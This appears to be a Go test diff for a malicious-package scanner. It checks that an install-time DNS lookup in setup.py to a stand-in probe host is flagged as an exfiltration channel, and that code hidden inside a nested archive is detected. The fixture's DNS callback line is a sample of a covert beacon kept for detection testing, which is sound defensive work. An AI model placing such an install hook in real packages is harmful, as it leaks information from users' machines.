@@ -323,3 +323,43 @@ func TestProgramNamedOnlyAsArgument(t *testing.T) {
 		t.Errorf("downloaded exe run: %s %+v", r.Verdict, r.Findings)
 	}
 }
+
+func TestDNSCallback(t *testing.T) {
+	r := sdist(t, map[string]string{"setup.py": "import socket\nsocket.gethostbyname('probe.9oyng069p25x4kmle5dlnypj1a.example.invalid')\n"})
+	if r.Verdict != Malicious || !hasRule(r, "exfil-channel", Critical) {
+		t.Errorf("DNS callback at install: %s %+v", r.Verdict, r.Findings)
+	}
+	r = sdist(t, map[string]string{"setup.py": "import socket\nsocket.gethostbyname('download.example-mirror.org')\n"})
+	if r.Verdict == Malicious {
+		t.Errorf("lookup of a mirror: %s %+v", r.Verdict, r.Findings)
+	}
+}
+
+func TestHiddenArchiveWithCode(t *testing.T) {
+	pack := func(name, body string) []byte {
+		var buf bytes.Buffer
+		tw := tar.NewWriter(&buf)
+		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
+		tw.Write([]byte(body))
+		tw.Close()
+		return buf.Bytes()
+	}
+	for _, tt := range []struct {
+		hidden string
+		want   Severity
+	}{{"p-1/setup.py", High}, {"p-1/notes.txt", Medium}} {
+		raw := append(pack("p-1/PKG-INFO", "Metadata-Version: 2.1\nName: p\nVersion: 1\n"), pack(tt.hidden, "import os\n")...)
+		var gz bytes.Buffer
+		zw := gzip.NewWriter(&gz)
+		zw.Write(raw)
+		zw.Close()
+		a, err := artifact.Read(t.Context(), "p-1.tar.gz", gz.Bytes(), artifact.Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		r := Analyze(t.Context(), a)
+		if !hasRule(r, "hidden-archive", tt.want) || hasRule(r, "hidden-archive", tt.want+1) {
+			t.Errorf("%s hidden: want hidden-archive at %s: %+v", tt.hidden, tt.want, r.Findings)
+		}
+	}
+}
